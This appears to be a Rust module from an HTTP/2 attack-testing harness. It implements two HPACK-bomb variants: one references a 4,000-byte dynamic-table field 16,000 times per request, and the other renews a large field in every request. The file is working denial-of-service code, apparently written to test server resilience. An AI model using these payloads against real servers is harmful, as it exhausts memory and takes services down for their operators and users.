//! Few bytes that mean many: a large field in HPACK's table, named thousands of times.

use std::io;
use std::sync::Arc;

use futures_util::FutureExt;

use crate::attack::{Attack, By, Node, Variant};
use crate::attacker::Attacker;
use crate::wire::http2::{END_HEADERS, END_STREAM, HEADERS, Http2, Method, STREAMS, drain, field, frame, head, stream};

pub(super) static ATTACK: Attack = Attack {
    name: "HPACK bombs",
    by: By::Stranger,
    node: Node::EMBEDDED,
    variants: &[
        Variant { name: "one field named 16,000 times", act: |attacker| attacker.crowd(30, bomb).boxed() },
        Variant { name: "a field renewed in each request", act: |attacker| attacker.crowd(30, renewed).boxed() },
    ],
};

/// The newest entry of the table behind HPACK's static 61.
const NEWEST: u8 = 0x80 | 62;

async fn bomb(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let Http2 { mut writing, reading } = Http2::open(&attacker.dialer, &[]).await?;
    let request = |n, head: &[u8]| frame(HEADERS, END_HEADERS | END_STREAM, stream(n), head);
    let large = field(true, "filler", &"x".repeat(4000));
    let first = [head(Method::Get, "/v1/x", &[]), large].concat();
    let bomb = [head(Method::Get, "/v1/x", &[]), vec![NEWEST; 16_000]].concat();
    let mut all = request(0, &first);
    all.extend((1..8).flat_map(|n| request(n, &bomb)));
    tokio::io::AsyncWriteExt::write_all(&mut writing, &all).await?;
    drain(reading).await
}

async fn renewed(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let Http2 { mut writing, reading } = Http2::open(&attacker.dialer, &[]).await?;
    let reading = tokio::spawn(drain(reading));
    for n in 0..8 * STREAMS {
        let filler = format!("{n}-{}", "x".repeat(3800));
        let head = [head(Method::Get, "/v1/x", &[]), field(true, "filler", &filler)].concat();
        let request = frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head);
        tokio::io::AsyncWriteExt::write_all(&mut writing, &request).await?;
    }
    reading.await?
}
